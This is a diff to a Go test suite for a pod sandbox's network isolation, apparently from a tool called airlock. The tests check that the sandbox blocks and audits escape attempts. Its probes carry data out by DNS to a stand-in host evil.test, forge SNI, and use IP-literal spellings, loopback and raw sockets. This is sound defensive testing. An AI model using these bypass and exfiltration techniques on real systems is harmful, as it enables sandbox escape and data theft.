@@ -18,14 +18,19 @@ import (
 	"github.com/vishvananda/netlink"
 )
 
+// np names the network tests' pods. Pod names also name cgroups, which are
+// shared by every state directory: a name of this process's own keeps a
+// concurrent test run's pod "p" from sharing (and killing) a group with ours.
+var np = fmt.Sprintf("net%d", os.Getpid())
+
 // probe.py is the attacker's toolbox inside the pod: raw sockets, no
 // proxy library, every spelling under the attacker's control. Each
 // command prints one line.
 const probePy = `import socket, struct, sys
 
-def dnsq(server, proto, name):
+def dnsq(server, proto, name, sep="."):
     q = struct.pack(">HHHHHH", 0x4a4a, 0x0100, 1, 0, 0, 0)
-    for label in name.split("."):
+    for label in name.split(sep):
         q += bytes([len(label)]) + label.encode()
     q += b"\0" + struct.pack(">HH", 1, 1)
     if proto == "udp":
@@ -38,6 +43,10 @@ def dnsq(server, proto, name):
         s.sendall(struct.pack(">H", len(q)) + q)
         r = s.recv(4096)[2:]
     return "rcode=%d answers=%d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])
+
+def dnsl(server, labels):
+    # labels separated by "|": a label may hold a dot
+    return dnsq(server, "udp", labels, "|")
 
 def direct(host, port, hosthdr):
     s = socket.create_connection((host, int(port)), 3)
@@ -160,8 +169,8 @@ func TestNetAllowedNames(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
 	e.netConfig(n, "", "allowed.test", "*.allowed.test")
-	e.must("init", "p")
-	got := e.runProbes("p", `
+	e.must("init", np)
+	got := e.runProbes(np, `
 c proxy-http http://allowed.test/
 c proxy-https --cacert ca.pem https://www.allowed.test/
 c direct-http --noproxy '*' http://allowed.test/
@@ -176,7 +185,7 @@ c denied-name-direct --noproxy '*' http://evil.test/
 	wantCurlFail(t, got, "denied-name")
 	wantCurlFail(t, got, "denied-name-direct")
 
-	evs := e.audit("p")
+	evs := e.audit(np)
 	e.wantAudit(evs, "net.connect", "allow", "path:proxy", "allowed.test")
 	e.wantAudit(evs, "net.connect", "allow", "path:connect", "www.allowed.test")
 	e.wantAudit(evs, "net.connect", "allow", "path:transparent", "host:allowed.test", n.web.String())
@@ -184,7 +193,7 @@ c denied-name-direct --noproxy '*' http://evil.test/
 	e.wantAudit(evs, "net.dns", "allow", "name:allowed.test")
 	e.wantAudit(evs, "net.dns", "deny", "name:evil.test")
 	e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:evil.test")
-	e.must("audit", "verify", "p")
+	e.must("audit", "verify", np)
 }
 
 // IP literals, direct or through the proxy in any spelling, names that
@@ -194,9 +203,9 @@ func TestNetLiteralsAndRebinding(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
 	e.netConfig(n, "", "allowed.test", "*.allowed.test")
-	e.must("init", "p")
+	e.must("init", np)
 	web, other := n.web.String(), n.other.String()
-	got := e.runProbes("p", fmt.Sprintf(`
+	got := e.runProbes(np, fmt.Sprintf(`
 c lit-direct --noproxy '*' http://%[1]s/
 c lit-proxy http://%[1]s/
 c lit-tunnel -p --cacert ca.pem https://%[1]s/
@@ -247,7 +256,7 @@ p host-port direct %[2]s 80 allowed.test:80
 		t.Errorf("mapped-direct: an allowed name at its own address, v4-mapped, got %q", got["mapped-direct"])
 	}
 
-	evs := e.audit("p")
+	evs := e.audit(np)
 	e.wantAudit(evs, "net.leak", "deny", "addr:"+web, "port:80")
 	e.wantAudit(evs, "net.leak", "deny", "addr:"+other, "host:allowed.test")
 	e.wantAudit(evs, "net.leak", "deny", "addr:"+web, "port:9999")
@@ -268,9 +277,9 @@ func TestNetDNSExfiltration(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
 	e.netConfig(n, "", "allowed.test")
-	e.must("init", "p")
+	e.must("init", np)
 	web := n.web.String()
-	got := e.runProbes("p", fmt.Sprintf(`
+	got := e.runProbes(np, fmt.Sprintf(`
 p via-resolver dnsq 127.0.0.1 udp secretdata123.evil.test
 p auth-udp dnsq %[1]s udp secretdata124.evil.test
 p auth-tcp dnsq %[1]s tcp secretdata125.evil.test
@@ -300,7 +309,7 @@ p udp-other udp %[1]s 9999
 	if k := n.strayCount(); k != 0 {
 		t.Errorf("SECURITY: %d datagrams reached port 9999 of the test internet", k)
 	}
-	evs := e.audit("p")
+	evs := e.audit(np)
 	for i := 123; i <= 126; i++ {
 		e.wantAudit(evs, "net.dns", "deny", fmt.Sprintf("name:secretdata%d.evil.test", i))
 	}
@@ -313,9 +322,9 @@ func TestNetSNIMismatch(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
 	e.netConfig(n, "", "allowed.test", "www.allowed.test")
-	e.must("init", "p")
+	e.must("init", np)
 	web := n.web.String()
-	got := e.runProbes("p", fmt.Sprintf(`
+	got := e.runProbes(np, fmt.Sprintf(`
 c control --cacert ca.pem https://allowed.test/
 c tunnel-denied-sni --cacert ca.pem --connect-to evil.test:443:allowed.test:443 https://evil.test/
 c tunnel-allowed-sni --cacert ca.pem --connect-to www.allowed.test:443:allowed.test:443 https://www.allowed.test/
@@ -326,7 +335,7 @@ c transparent-denied-sni --noproxy '*' --cacert ca.pem --resolve evil.test:443:%
 	for _, l := range []string{"tunnel-denied-sni", "tunnel-allowed-sni", "tunnel-no-sni", "transparent-denied-sni"} {
 		wantCurlFail(t, got, l)
 	}
-	evs := e.audit("p")
+	evs := e.audit(np)
 	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:allowed.test", "evil.test")
 	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:allowed.test", "www.allowed.test")
 	e.wantAudit(evs, "net.leak", "deny", "host:evil.test")
@@ -357,8 +366,8 @@ func TestNetHostLocalServices(t *testing.T) {
 	}()
 	port := tcp.Addr().(*net.TCPAddr).Port
 	e.netConfig(n, fmt.Sprintf("  ports: [80, 443, %d]\n", port), "allowed.test", "localhost")
-	e.must("init", "p")
-	got := e.runProbes("p", fmt.Sprintf(`
+	e.must("init", np)
+	got := e.runProbes(np, fmt.Sprintf(`
 p abstract unix %[1]s
 p loop-direct direct 127.0.0.1 %[2]d localhost
 p loop-connect pconnect 127.0.0.1:%[2]d
@@ -379,7 +388,7 @@ c loop-proxy http://localhost:%[2]d/
 	if len(tcpHits) != 0 {
 		t.Errorf("SECURITY: the host's loopback listener accepted %d connections from the pod", len(tcpHits))
 	}
-	evs := e.audit("p")
+	evs := e.audit(np)
 	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:localhost")
 	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:127.0.0.1")
 	e.wantAudit(evs, "net.leak", "deny", "addr:"+n.host.String())
@@ -419,14 +428,14 @@ func TestNetLivePolicy(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
 	e.netConfig(n, "", "allowed.test")
-	e.must("init", "p")
+	e.must("init", np)
 	for _, lit := range []string{"10.0.0.1", "2852039166", "0x7f.1", "*.127.0.0.1"} {
-		e.expect(2, "IP address", "net", "p", "allow", lit)
+		e.expect(2, "IP address", "net", np, "allow", lit)
 	}
-	e.expect(2, "not a valid host name", "net", "p", "allow", "evil.test/x")
-	e.expect(2, "unknown action", "net", "p", "permit", "evil.test")
+	e.expect(2, "not a valid host name", "net", np, "allow", "evil.test/x")
+	e.expect(2, "unknown action", "net", np, "permit", "evil.test")
 	// One probe per line read: through the proxy, then around it.
-	r := e.start("run", "p", "-T", "--", "sh", "-c", `while read name; do
+	r := e.start("run", np, "-T", "--", "sh", "-c", `while read name; do
   for m in proxy direct; do
     if [ $m = direct ]; then np='*'; else np=''; fi
     if out=$(curl -fsS --max-time 5 --noproxy "$np" http://$name/ 2>&1); then echo "$m ok $out"; else echo "$m fail"; fi
@@ -442,13 +451,13 @@ done`)
 	if got := ask("live.test"); strings.Contains(got, "ok") {
 		t.Fatalf("live.test reachable before it was allowed: %s", got)
 	}
-	if out := e.must("net", "p", "allow", "live.test").stdout; !strings.Contains(out, "in effect now") {
+	if out := e.must("net", np, "allow", "live.test").stdout; !strings.Contains(out, "in effect now") {
 		t.Errorf("net allow on a running pod: %q", out)
 	}
 	if got := ask("live.test"); got != "proxy ok hello live.test from web | direct ok hello live.test from web" {
 		t.Errorf("after net allow: %s", got)
 	}
-	e.must("net", "p", "deny", "live.test")
+	e.must("net", np, "deny", "live.test")
 	if got := ask("live.test"); strings.Contains(got, "ok") {
 		t.Errorf("SECURITY: live.test still reachable after net deny: %s", got)
 	}
@@ -459,7 +468,7 @@ done`)
 		Mode        string
 		Allow, Deny []string
 	}
-	if err := json.Unmarshal([]byte(e.must("net", "p", "ls", "--json").stdout), &pol); err != nil {
+	if err := json.Unmarshal([]byte(e.must("net", np, "ls", "--json").stdout), &pol); err != nil {
 		t.Fatal(err)
 	}
 	if !contains(pol.Deny, "live.test") || contains(pol.Allow, "live.test") || !contains(pol.Allow, "allowed.test") {
@@ -467,17 +476,17 @@ done`)
 	}
 	r.stop()
 	// Kept in the pod's config: the next run starts with it.
-	cfg, err := os.ReadFile(filepath.Join(e.home, "pods", "p", "pod.yaml"))
+	cfg, err := os.ReadFile(filepath.Join(e.home, "pods", np, "pod.yaml"))
 	if err != nil {
 		t.Fatal(err)
 	}
 	if !strings.Contains(string(cfg), "live.test") {
 		t.Errorf("pod config lacks live.test:\n%s", cfg)
 	}
-	got := e.runProbes("p", "c again http://live.test/\n")
+	got := e.runProbes(np, "c again http://live.test/\n")
 	wantCurlFail(t, got, "again")
 
-	evs := e.audit("p")
+	evs := e.audit(np)
 	e.wantAudit(evs, "net.allow", "ok", "live.test")
 	e.wantAudit(evs, "net.deny", "ok", "live.test")
 	e.wantAudit(evs, "net.reload", "ok", "live.test")
@@ -501,11 +510,11 @@ func contains(list []string, s string) bool {
 func TestNetPublish(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
-	e.must("init", "p")
+	e.must("init", np)
 	port, port6 := freePort(t), freePort(t)
 	e.write("served.txt", "served from the pod\n")
 	// The servers stop when the test closes stdin.
-	r := e.start("run", "p", "-T", "-p", fmt.Sprintf("%d:8080", port), "-p", fmt.Sprintf("127.0.0.1:%d:8081", port6), "--", "sh", "-c",
+	r := e.start("run", np, "-T", "-p", fmt.Sprintf("%d:8080", port), "-p", fmt.Sprintf("127.0.0.1:%d:8081", port6), "--", "sh", "-c",
 		"/usr/bin/python3 -m http.server 8080 --bind 127.0.0.1 2>/dev/null & a=$!; /usr/bin/python3 -m http.server 8081 --bind ::1 2>/dev/null & b=$!; cat >/dev/null; kill $a $b")
 	for _, p := range []int{port, port6} {
 		url := fmt.Sprintf("http://127.0.0.1:%d/served.txt", p)
@@ -537,7 +546,7 @@ func TestNetPublish(t *testing.T) {
 			t.Errorf("port %d still published after the pod stopped", p)
 		}
 	}
-	e.expect(2, "HOST_PORT:POD_PORT", "run", "p", "-T", "-p", "8080", "--", "true")
+	e.expect(2, "HOST_PORT:POD_PORT", "run", np, "-T", "-p", "8080", "--", "true")
 }
 
 func freePort(t *testing.T) int {
@@ -555,8 +564,8 @@ func TestNetModeNone(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
 	e.netConfig(n, "  mode: none\n", "allowed.test")
-	e.must("init", "p")
-	got := e.runProbes("p", fmt.Sprintf(`
+	e.must("init", np)
+	got := e.runProbes(np, fmt.Sprintf(`
 c name http://allowed.test/
 p literal direct %[1]s 80 allowed.test
 p proxy pconnect allowed.test:443
@@ -585,7 +594,7 @@ echo links $(tail -n +3 /proc/net/dev | cut -d: -f1)
 	if k := n.strayCount(); k != 0 {
 		t.Errorf("SECURITY: %d packets reached the test internet in mode none", k)
 	}
-	if st := e.must("status", "p", "--json").stdout; !strings.Contains(st, `"up (none)"`) {
+	if st := e.must("status", np, "--json").stdout; !strings.Contains(st, `"up (none)"`) {
 		t.Errorf("status walls in mode none: %s", st)
 	}
 }
@@ -597,23 +606,23 @@ func TestNetModeHost(t *testing.T) {
 	e := newEnv(t)
 	e.write("airlock.yaml", "version: 1\nnetwork:\n  mode: host\n")
 	name, accepted := abstractListener(t)
-	e.must("init", "p")
-	r := e.run("", "run", "p", "-T", "--", "true")
+	e.must("init", np)
+	r := e.run("", "run", np, "-T", "--", "true")
 	if r.code != 0 || !strings.Contains(strings.ToLower(r.stderr), "host") {
 		t.Errorf("run in mode host: exit %d, want a warning on stderr, got %q", r.code, r.stderr)
 	}
-	got := e.runProbes("p", "p abstract unix "+name+"\n")
+	got := e.runProbes(np, "p abstract unix "+name+"\n")
 	if got["abstract"] != "connected" || accepted() == 0 {
 		t.Errorf("mode host: the host's abstract socket should be reachable: %q", got["abstract"])
 	}
 	var st struct{ Walls map[string]string }
-	if err := json.Unmarshal([]byte(e.must("status", "p", "--json").stdout), &st); err != nil {
+	if err := json.Unmarshal([]byte(e.must("status", np, "--json").stdout), &st); err != nil {
 		t.Fatal(err)
 	}
 	if !strings.HasPrefix(st.Walls["network"], "OFF") {
 		t.Errorf("status walls network in mode host: %q", st.Walls["network"])
 	}
-	e.wantAudit(e.audit("p"), "wall.network", "warning", "mode:host")
+	e.wantAudit(e.audit(np), "wall.network", "warning", "mode:host")
 }
 
 // Raw and packet sockets, pings, and UDP other than DNS, over IPv4 and
@@ -622,8 +631,8 @@ func TestNetRawPacketUDP(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
 	e.netConfig(n, "", "allowed.test")
-	e.must("init", "p")
-	got := e.runProbes("p", fmt.Sprintf(`
+	e.must("init", np)
+	got := e.runProbes(np, fmt.Sprintf(`
 p raw raw %[1]s
 p raw6 raw6 %[2]s
 p rawudp rawudp %[1]s
@@ -649,7 +658,7 @@ p own-resolver udp %[1]s 5353
 	// The kernel refuses raw, packet and ping sockets before a packet
 	// exists (seccomp, no CAP_NET_RAW); the UDP datagrams reach the rules,
 	// which drop them and say so.
-	evs := e.audit("p")
+	evs := e.audit(np)
 	web, web6 := n.web.String(), n.web6.String()
 	for _, want := range [][]string{{"addr:" + web, "port:9999"}, {"addr:" + web, "port:443"}, {"addr:" + web, "port:123"},
 		{"addr:" + web6, "port:9999"}, {"addr:" + web, "port:5353"}} {
@@ -665,9 +674,9 @@ func TestNetIPv6(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
 	e.netConfig(n, "", "allowed.test", "*.allowed.test")
-	e.must("init", "p")
+	e.must("init", np)
 	web, web6 := n.web.String(), n.web6.String()
-	got := e.runProbes("p", fmt.Sprintf(`
+	got := e.runProbes(np, fmt.Sprintf(`
 c v6-proxy http://v6.allowed.test/
 c v6-proxy-https --cacert ca.pem https://v6.allowed.test/
 c v6-direct --noproxy '*' http://v6.allowed.test/
@@ -700,7 +709,7 @@ p v6-linklocal direct fe80::1%%lo 80 v6.allowed.test
 	for _, l := range []string{"v6-nat64-direct", "v6-wrong-name", "v6-linklocal"} {
 		wantProbeFail(t, got, l)
 	}
-	evs := e.audit("p")
+	evs := e.audit(np)
 	e.wantAudit(evs, "net.connect", "allow", "path:proxy", "host:v6.allowed.test", "addr:"+web6)
 	e.wantAudit(evs, "net.connect", "allow", "path:transparent", "host:v6.allowed.test", "addr:"+web6)
 	e.wantAudit(evs, "net.dns", "allow", "name:v6.allowed.test", web6)
@@ -736,14 +745,17 @@ func TestNetDNSModes(t *testing.T) {
 			e := newEnv(t)
 			n := newInet(t)
 			e.netConfigDNS(n, tc.mode, tc.extra, tc.allow...)
-			e.must("init", "p")
+			e.must("init", np)
 			var script strings.Builder
 			for _, name := range append(append([]string{}, tc.works...), tc.refused...) {
 				fmt.Fprintf(&script, "c proxy-%[1]s http://%[1]s/\nc direct-%[1]s --noproxy '*' http://%[1]s/\n", name)
 			}
 			fmt.Fprintf(&script, "p exfil dnsq 127.0.0.1 udp secret.evil.test\n")
+			// One label "escaped.allowed" under "test": no subdomain of
+			// allowed.test, however its presentation form ends.
+			fmt.Fprintf(&script, "p escaped dnsl 127.0.0.1 'escaped.allowed|test'\n")
 			fmt.Fprintf(&script, "c literal --noproxy '*' http://%s/\nc rebind http://meta.allowed.test/\n", n.web)
-			got := e.runProbes("p", script.String())
+			got := e.runProbes(np, script.String())
 			for _, name := range tc.works {
 				wantOK(t, got, "proxy-"+name, "hello "+name+" from web")
 				wantOK(t, got, "direct-"+name, "hello "+name+" from web")
@@ -760,14 +772,17 @@ func TestNetDNSModes(t *testing.T) {
 					t.Errorf("the authoritative server was not asked %s: %v", name, seen)
 				}
 			}
-			for _, name := range tc.kept {
+			if !strings.Contains(got["escaped"], "rcode=3") {
+				t.Errorf("escaped: a name with a dot inside a label: want NXDOMAIN, got %q", got["escaped"])
+			}
+			for _, name := range append(tc.kept, "escaped") {
 				for _, q := range seen {
 					if strings.Contains(q, name) {
 						t.Errorf("SECURITY: the authoritative server was asked %s in mode %s", q, tc.mode)
 					}
 				}
 			}
-			evs := e.audit("p")
+			evs := e.audit(np)
 			for _, name := range tc.works {
 				e.wantAudit(evs, "net.dns", "allow", "name:"+name)
 				e.wantAudit(evs, "net.connect", "allow", "path:transparent", "host:"+name)
@@ -791,8 +806,8 @@ func TestNetPresets(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
 	e.netConfig(n, "  presets: [anthropic, npm]\n", "allowed.test")
-	e.must("init", "p")
-	got := e.runProbes("p", `
+	e.must("init", np)
+	got := e.runProbes(np, `
 p anthropic dnsq 127.0.0.1 udp api.anthropic.com
 p npm dnsq 127.0.0.1 udp registry.npmjs.org
 p openai dnsq 127.0.0.1 udp api.openai.com
@@ -811,11 +826,11 @@ p openai dnsq 127.0.0.1 udp api.openai.com
 	if strings.Contains(seen, "openai") {
 		t.Errorf("SECURITY: api.openai.com, in no preset, was forwarded")
 	}
-	evs := e.audit("p")
+	evs := e.audit(np)
 	e.wantAudit(evs, "net.dns", "allow", "name:api.anthropic.com")
 	e.wantAudit(evs, "net.dns", "deny", "name:api.openai.com")
 	var pol struct{ Presets []string }
-	if err := json.Unmarshal([]byte(e.must("net", "p", "ls", "--json").stdout), &pol); err != nil {
+	if err := json.Unmarshal([]byte(e.must("net", np, "ls", "--json").stdout), &pol); err != nil {
 		t.Fatal(err)
 	}
 	if !contains(pol.Presets, "anthropic") || !contains(pol.Presets, "npm") {
@@ -830,11 +845,11 @@ func TestNetSupervisorKilled(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
 	e.netConfig(n, "", "allowed.test")
-	e.must("init", "p")
+	e.must("init", np)
 	before := hostNetState(t)
 	port := freePort(t)
 	marker := fmt.Sprintf("airlock-e2e-%d", rand.Int64())
-	r := e.start("run", "p", "-T", "-p", fmt.Sprintf("%d:8080", port), "--", "sh", "-c",
+	r := e.start("run", np, "-T", "-p", fmt.Sprintf("%d:8080", port), "--", "sh", "-c",
 		`/usr/bin/python3 -m http.server 8080 --bind 127.0.0.1 >/dev/null 2>&1 & curl -fsS http://allowed.test/; cat`, marker)
 	if got := r.next(); !strings.Contains(got, "hello allowed.test") {
 		t.Fatalf("the pod's network did not work before the kill: %q", got)
@@ -862,7 +877,7 @@ func TestNetSupervisorKilled(t *testing.T) {
 	if after := hostNetState(t); after != before {
 		t.Errorf("the host's network changed:\nbefore: %s\nafter:  %s", before, after)
 	}
-	got := e.runProbes("p", "c again http://allowed.test/\n")
+	got := e.runProbes(np, "c again http://allowed.test/\n")
 	wantOK(t, got, "again", "hello allowed.test from web")
 }
 
